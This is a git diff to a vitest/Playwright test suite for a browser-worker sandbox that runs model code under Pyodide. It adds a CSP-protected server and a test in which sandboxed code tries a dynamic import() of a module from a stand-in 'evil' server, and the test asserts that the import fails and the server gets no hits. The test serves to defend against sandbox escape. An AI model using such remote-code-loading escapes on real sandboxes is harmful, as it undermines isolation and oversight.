@@ -11,6 +11,7 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { Browser } from 'playwright-core';
+import { sandboxWorkerCsp } from '../src/sandbox/browser/index.js';
 import type { CellResult } from '../src/sandbox/types.js';
 import {
   buildTestPage,
@@ -33,6 +34,7 @@ const BLOCKED = 'not available in the localds sandbox';
 let browser: Browser;
 let plain: PageDriver;
 let isolated: PageDriver;
+let withCsp: PageDriver;
 let evil: CountingServer;
 const servers: StaticServer[] = [];
 let cleanupBuild: () => void = () => undefined;
@@ -89,10 +91,14 @@ beforeAll(async () => {
   servers.push(
     await serveTestPage(page.outDir, false, { index: indexDir }),
     await serveTestPage(page.outDir, true),
+    await serveTestPage(page.outDir, false, {}, (origin) =>
+      sandboxWorkerCsp({ pyodideIndexUrl: `${origin}/pyodide/`, packageIndexUrl: origin }),
+    ),
   );
   browser = await launchChromium();
   plain = await PageDriver.open(browser, servers[0]!.origin);
   isolated = await PageDriver.open(browser, servers[1]!.origin);
+  withCsp = await PageDriver.open(browser, servers[2]!.origin);
   // Cold start first, alone; the rest boot together.
   boots.main = await plain.create('main', { outputLimitBytes: 64 * 1024 });
   [boots.js, boots.iso] = await Promise.all([
@@ -432,6 +438,21 @@ describe('browser-worker sandbox: the locks hold even when model code runs arbit
     expect((await plain.audit('js')).leaks).toEqual([]);
     await new Promise((resolve) => setTimeout(resolve, 500));
     expect(evil.hits()).toBe(0);
+  }, 60_000);
+});
+
+describe('browser-worker sandbox: the worker CSP as a third wall', () => {
+  it('refuses a dynamic import() (syntax no guard can replace) when code generation is allowed', async () => {
+    booted(await withCsp.create('csp', { codeGeneration: 'allowed' }));
+    const result = await withCsp.run(
+      'csp',
+      'from pyodide.code import run_js\n' +
+        `await run_js("import('${evil.url}/module.js').then(() => 'imported', (e) => e.name)")`,
+    );
+    expect(resultText(result)).toBe("'TypeError'");
+    await new Promise((resolve) => setTimeout(resolve, 500));
+    expect(evil.hits()).toBe(0);
+    await withCsp.dispose('csp');
   }, 60_000);
 });
 
